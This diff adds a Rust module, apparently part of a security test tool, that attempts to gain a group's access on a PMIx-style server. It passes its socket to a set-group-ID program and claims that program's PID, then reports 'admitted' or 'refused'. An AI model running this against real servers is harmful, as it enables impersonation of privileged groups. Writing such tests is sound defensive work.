@@ -1,0 +1,36 @@
+//! Membership of a group by a program that has its rights. The attacker hands its socket to a program with the set-group-ID bit, as
+//! standard input, and tells the server that this is the process that speaks.
+use super::tool;
+use crate::raw::encoded;
+use anyhow::{Context, Result};
+use peal_model::{Info, Value, key};
+use peal_wire::User;
+use std::{
+    io::{Read, Write},
+    net::{SocketAddr, TcpStream},
+    os::fd::OwnedFd,
+    process::{Command, Stdio},
+    time::Duration,
+};
+
+/// Claims to be in a group by a program that runs as that group, and prints whether the server lets the tool in.
+pub fn attack(server: SocketAddr, program: &str, group: u32) -> Result<()> {
+    let mut stream = TcpStream::connect(server).context("connecting")?;
+    let input = OwnedFd::from(stream.try_clone()?);
+    let mut child =
+        Command::new(program).arg("1000").stdin(input).stdout(Stdio::null()).stderr(Stdio::null()).spawn()?;
+    let said = says_who(&mut stream, child.id(), group);
+    child.kill()?;
+    child.wait()?;
+    println!("{}", said?);
+    Ok(())
+}
+
+fn says_who(stream: &mut TcpStream, pid: u32, group: u32) -> Result<&'static str> {
+    let mut hello = tool(User { uid: rustix::process::geteuid().as_raw(), gid: group }, "borrower");
+    hello.infos.push(Info::new(key::PMIX_PROC_PID, Value::Pid(pid)));
+    stream.set_read_timeout(Some(Duration::from_secs(30)))?;
+    stream.write_all(&encoded(&hello))?;
+    // A refused connection is closed without a byte.
+    Ok(if stream.read(&mut [0; 512]).is_ok_and(|count| count > 0) { "admitted" } else { "refused" })
+}
